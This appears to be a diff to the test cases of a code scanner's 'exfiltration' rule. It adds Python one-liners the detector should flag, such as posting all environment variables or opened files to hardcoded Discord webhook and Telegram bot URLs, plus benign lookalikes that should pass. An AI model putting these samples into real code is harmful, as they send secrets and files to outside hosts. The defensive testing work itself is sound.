@@ -199,6 +199,7 @@ export const CASES: readonly { rule: string; hits: string[]; passes: string[] }[
   {
     rule: 'exfiltration',
     hits: [
+      'from .config import CHAT_WEBHOOK\nrequests.post(CHAT_WEBHOOK, json=dict(os.environ))',
       'HOOK = "https://discord.com/api/webhooks/123456789012345678/aaaaaaaaaabbbbbbbbbbccccccccccdddddddddd"\nrequests.post(HOOK, json=dict(os.environ))',
       'requests.post("https://discord.com/api/webhooks/123456789012345678/aaaaaaaaaabbbbbbbbbbccccccccccdddddddddd", files={"f": open(p, "rb")})',
       'requests.post(f"https://api.telegram.org/bot{\'123456789:AAabcdefghijklmnopqrstuvwxyz0123456\'}/sendDocument", files={"document": open(p, "rb")})',
@@ -212,6 +213,8 @@ export const CASES: readonly { rule: string; hits: string[]; passes: string[] }[
     ],
     passes: [
       'requests.post(API, json={"prompt": p})',
+      'requests.post(WEBHOOK, json={"user": os.getenv("USER")})',
+      'requests.post(f"https://discord.com/api/webhooks/{hook}", files={"f": open(p, "rb")})',
       'requests.post(webhook_url, files={"file": open(image, "rb")})',
       'def send(token, chat):\n    requests.post(f"https://api.telegram.org/bot{token}/sendPhoto", files={"photo": open(p, "rb")})',
       'requests.post("https://api.example.com/v1", headers={"Authorization": os.getenv("KEY")}, json={"p": p})',
